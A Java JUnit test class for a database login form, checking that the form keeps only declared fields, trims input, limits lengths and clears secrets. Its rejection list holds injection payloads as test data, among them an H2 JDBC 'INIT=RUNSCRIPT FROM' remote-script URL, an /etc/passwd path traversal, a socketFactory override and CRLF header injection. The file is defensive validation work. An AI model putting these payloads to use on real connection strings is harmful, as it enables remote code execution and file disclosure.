package dev.connections.login.form;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.connections.login.LoginId;
import dev.connections.login.LoginRequest;
import dev.connections.login.LoginScene;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LoginFormTests {

    private static final LoginForm FORM = new LoginForm(
            "warehouse",
            List.of(
                    new LoginField("user", "", true),
                    new LoginField("password", "", false),
                    new LoginField("database", "PROJECT_DB", true)));

    @Test
    void takesTheFieldsAndNothingElse() {
        Map<String, char[]> entered = entered("alice", "in wonderland");
        entered.put("database", "SALES".toCharArray());
        entered.put("url", "jdbc:h2:mem:mine".toCharArray());
        entered.put("account", "mine".toCharArray());
        entered.put("socketFactory", "org.example.Mine".toCharArray());
        entered.put("Database", "mine".toCharArray());
        LoginInput input = FORM.read(entered);
        assertThat(input.user()).isEqualTo("alice");
        assertThat(input.credentials().user()).isEqualTo("alice");
        assertThat(input.credentials().secret()).isEqualTo("in wonderland");
        assertThat(input.settings()).containsExactly(Map.entry("database", "SALES"));
    }

    @Test
    void whatIsNotEnteredIsAsTheApplicationSays() {
        assertThat(FORM.read(entered("alice", "secret")).settings())
                .containsExactly(Map.entry("database", "PROJECT_DB"));
    }

    @Test
    void whatIsEmptiedIsNotSet() {
        Map<String, char[]> entered = entered("alice", "secret");
        entered.put("database", " ".toCharArray());
        assertThat(FORM.read(entered).settings()).isEmpty();
    }

    @Test
    void blanksAroundAnythingButTheSecretMeanNothing() {
        Map<String, char[]> entered = entered(" alice\t", " secret ");
        entered.put("database", " SALES ".toCharArray());
        LoginInput input = FORM.read(entered);
        assertThat(input.user()).isEqualTo("alice");
        assertThat(input.credentials().secret()).isEqualTo(" secret ");
        assertThat(input.settings()).containsEntry("database", "SALES");
    }

    @ParameterizedTest
    @ValueSource(strings = {"SALES", "sales_2026", "Umsätze", "売上", "a", "my.schema", "a-b c", "$tmp", "_x", "R$D"})
    void takesPlainNames(String name) {
        assertThat(read("database", name).settings()).containsEntry("database", name);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x;INIT=RUNSCRIPT FROM 'http://example.com/x.sql'",
                "x?socketFactory=org.example.Mine",
                "x&sslmode=disable",
                "x#y",
                "x/../../etc/passwd",
                "..",
                "a..b",
                "../x",
                "x/y",
                "x\\y",
                "x=y",
                "x:y",
                "x@y",
                "x,y",
                "x|y",
                "x'y",
                "x\"y",
                "x`y",
                "x(y",
                "x)y",
                "x[y",
                "x{y",
                "${env.HOME}",
                "x%3By",
                "x+y",
                "x*y",
                "x!y",
                "x<y",
                "x>y",
                "x\ny",
                "x\r\nHost: y",
                "x\ty",
                "x\0y",
                "x\u0085y",
                "x\u2028y",
                "x\u00a0y",
                "x\u200by",
                "x\u202ey",
                "x\uFF1By",
                "-x",
                "x-",
                ".x",
                "x."
            })
    void takesNothingThatMeansSomethingElsewhere(String value) {
        assertInvalid(() -> read("database", value));
    }

    @Test
    void takesNoLongNames() {
        assertThat(read("database", "x".repeat(255)).settings()).hasSize(1);
        assertInvalid(() -> read("database", "x".repeat(256)));
        assertThat(FORM.read(entered("x".repeat(255), "secret")).user()).hasSize(255);
        assertInvalid(() -> FORM.read(entered("x".repeat(256), "secret")));
    }

    @Test
    void whatTheApplicationHasPutThereMayBeAnything() {
        LoginForm form = new LoginForm(
                "warehouse", List.of(new LoginField("user", "", true), new LoginField("role", "a/b;c", true)));
        Map<String, char[]> entered = new HashMap<>(Map.of("user", "alice".toCharArray()));
        assertThat(form.read(entered).settings()).containsEntry("role", "a/b;c");
        entered.put("role", "a/b;c".toCharArray());
        assertThat(form.read(entered).settings()).containsEntry("role", "a/b;c");
        entered.put("role", "a/b;d".toCharArray());
        assertInvalid(() -> form.read(entered));
    }

    @ParameterizedTest
    @ValueSource(strings = {"a\nb", "a\rb", "a\0b", "a\tb", "a\u001bb", "a\u0085b"})
    void takesNoUserWithControlCharacters(String user) {
        assertInvalid(() -> FORM.read(entered(user, "secret")));
    }

    @ParameterizedTest
    @ValueSource(strings = {"alice@example.com", "CORP\\alice", "O'Neil", "a;b", "山田", "x"})
    void takesEveryOtherUser(String user) {
        assertThat(FORM.read(entered(user, "secret")).credentials().user()).isEqualTo(user);
    }

    @Test
    void wantsAUserAndASecretWhereItHasFieldsForThem() {
        assertInvalid(() -> FORM.read(entered("", "secret")));
        assertInvalid(() -> FORM.read(entered("  ", "secret")));
        assertInvalid(() -> FORM.read(entered("alice", "")));
        assertInvalid(() -> FORM.read(Map.of("user", "alice".toCharArray())));
        assertInvalid(() -> FORM.read(Map.of("password", "secret".toCharArray())));
        assertInvalid(() -> FORM.read(Map.of()));
    }

    @Test
    void takesATokenAlone() {
        LoginForm form = new LoginForm("warehouse", List.of(new LoginField("token", "", false)));
        LoginInput input = form.read(Map.of("token", "abc".toCharArray()));
        assertThat(input.user()).isNull();
        assertThat(input.credentials().secret()).isEqualTo("abc");
    }

    @Test
    void aSecretMayBeAnythingButEndlessOrWithANullCharacter() {
        String odd = "; & ? = ' \" \\ % \n ä 😀 ${x}";
        assertThat(FORM.read(entered("alice", odd)).credentials().secret()).isEqualTo(odd);
        assertThat(FORM.read(entered("alice", "x".repeat(16_384))).credentials().secret())
                .hasSize(16_384);
        assertInvalid(() -> FORM.read(entered("alice", "x".repeat(16_385))));
        assertInvalid(() -> FORM.read(entered("alice", "x\0y")));
    }

    @Test
    void copiesNoSecret() {
        Map<String, char[]> entered = entered("alice", "secret");
        char[] secret = entered.get("password");
        FORM.read(entered).credentials().clear();
        assertThat(secret).containsOnly('\0');
    }

    @Test
    void clearsAllThatWasEntered() {
        Map<String, char[]> entered = entered("alice", "secret");
        entered.put("something else", "x".toCharArray());
        LoginForm.clear(entered);
        assertThat(entered.values()).allSatisfy(value -> assertThat(value).containsOnly('\0'));
    }

    @Test
    void whatWasEnteredIsInNoText() {
        Map<String, char[]> entered = entered("alice", "secret");
        LoginRequest request = new LoginRequest(LoginId.of("the id"), entered, "192.0.2.1", "principal");
        assertThat(request.toString() + FORM.read(entered) + request.id())
                .doesNotContain("alice", "secret", "the id", "principal");
        assertThatThrownBy(() -> read("database", "very;secret")).hasMessageNotContaining("very");
    }

    private static LoginInput read(String field, String value) {
        Map<String, char[]> entered = entered("alice", "secret");
        entered.put(field, value.toCharArray());
        return FORM.read(entered);
    }

    private static Map<String, char[]> entered(String user, String password) {
        return LoginScene.entered(user, password);
    }

    private static void assertInvalid(org.assertj.core.api.ThrowableAssert.ThrowingCallable reading) {
        assertThatThrownBy(reading).isInstanceOfSatisfying(LoginFailedException.class, ex -> assertThat(ex.failure())
                .isEqualTo(LoginFailure.INVALID));
    }
}
